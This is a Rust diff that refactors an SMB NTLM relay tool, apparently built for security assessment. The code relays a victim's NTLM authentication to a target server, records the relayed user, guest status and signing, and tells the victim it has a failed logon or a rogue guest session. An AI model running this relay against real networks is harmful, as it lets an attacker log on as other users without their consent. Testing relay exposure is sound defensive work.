@@ -125,9 +125,7 @@ impl RelayOptions {
         Dialect::SMB30,
         Dialect::SMB302,
     ];
-}
 
-impl RelayOptions {
     pub fn new(target: SocketAddr, share: &str) -> Self {
         RelayOptions {
             target,
@@ -376,19 +374,20 @@ async fn run(
     let (h1, ss1) = victim.recv_session_setup().await?;
     let first_token = gss::unwrap_initiator(&ss1.security_buffer, ntlm::NEGOTIATE_TYPE, None)
         .context("victim's first token")?;
-    let (status, challenge_token) = target
+    let reply = target
         .session_setup(gss::wrap_first_for_target(
             &first_token.ntlm,
             &first_token.wrapping,
         ))
         .await?;
+    let status = reply.status;
     if status != NtStatus::MORE_PROCESSING_REQUIRED {
         attempt.auth_status = Some(status.to_string());
         victim.send_error(&h1, status, victim_session_id).await?;
         attempt.victim_told = Some(status.to_string());
         return Ok(());
     }
-    let challenge = gss::unwrap_acceptor(&challenge_token).context("target's CHALLENGE")?;
+    let challenge = gss::unwrap_acceptor(&reply.token).context("target's CHALLENGE")?;
     let mut h = h1.response(NtStatus::MORE_PROCESSING_REQUIRED);
     h.session_id = victim_session_id;
     let resp = SessionSetupResponse {
@@ -407,13 +406,14 @@ async fn run(
     .context("victim's AUTHENTICATE")?;
     attempt.relayed_user = gss::authenticate_user(&auth.ntlm);
     // The target's final token (accept-completed, its mechListMIC) is of no use to the relay.
-    let (status, _final_token) = target
+    let reply = target
         .session_setup(gss::wrap_last_for_target(&auth.ntlm, &auth.wrapping))
         .await?;
+    let status = reply.status;
     attempt.auth_status = Some(status.to_string());
     attempt.auth_accepted = status == NtStatus::SUCCESS;
-    attempt.guest = target.last_session_flags & session_flags::IS_GUEST != 0;
-    attempt.auth_response_signed = target.last_response_signed;
+    attempt.guest = reply.session_flags & session_flags::IS_GUEST != 0;
+    attempt.auth_response_signed = reply.signed;
 
     // What the victim is told: a failed logon, or (a rogue server) a guest session.
     match opts.victim_reply {
@@ -600,8 +600,17 @@ pub(crate) struct TargetConn {
     pub(crate) session_id: u64,
     pub(crate) tree_id: u32,
     dialect: Dialect,
-    last_session_flags: u16,
-    last_response_signed: bool,
+}
+
+/// What one SESSION_SETUP leg got back from the target.
+#[derive(Debug)]
+struct SetupReply {
+    status: NtStatus,
+    /// The target's security buffer (empty on an error status).
+    token: Vec<u8>,
+    session_flags: u16,
+    /// The response carried the SIGNED flag (the relay cannot check the signature).
+    signed: bool,
 }
 
 impl TargetConn {
@@ -628,8 +637,6 @@ impl TargetConn {
             session_id: 0,
             tree_id: 0,
             dialect: Dialect::SMB202,
-            last_session_flags: 0,
-            last_response_signed: false,
         })
     }
 
@@ -703,8 +710,8 @@ impl TargetConn {
         Ok(resp)
     }
 
-    /// One SESSION_SETUP leg; returns the status and the target's security buffer.
-    async fn session_setup(&mut self, token: Vec<u8>) -> anyhow::Result<(NtStatus, Vec<u8>)> {
+    /// One SESSION_SETUP leg.
+    async fn session_setup(&mut self, token: Vec<u8>) -> anyhow::Result<SetupReply> {
         let req = SessionSetupRequest {
             flags: 0,
             // A client that does not require signing: the relay could not sign anyway.
@@ -721,13 +728,18 @@ impl TargetConn {
         if self.session_id == 0 {
             self.session_id = h.session_id;
         }
-        self.last_response_signed = h.is_signed();
+        let mut reply = SetupReply {
+            status: h.status,
+            token: Vec::new(),
+            session_flags: 0,
+            signed: h.is_signed(),
+        };
         if h.status == NtStatus::SUCCESS || h.status == NtStatus::MORE_PROCESSING_REQUIRED {
             let resp = SessionSetupResponse::read(&m).context("target SESSION_SETUP response")?;
-            self.last_session_flags = resp.session_flags;
-            return Ok((h.status, resp.security_buffer));
+            reply.token = resp.security_buffer;
+            reply.session_flags = resp.session_flags;
         }
-        Ok((h.status, Vec::new()))
+        Ok(reply)
     }
 
     /// Sends one post-authentication request as a step of the report; returns the response
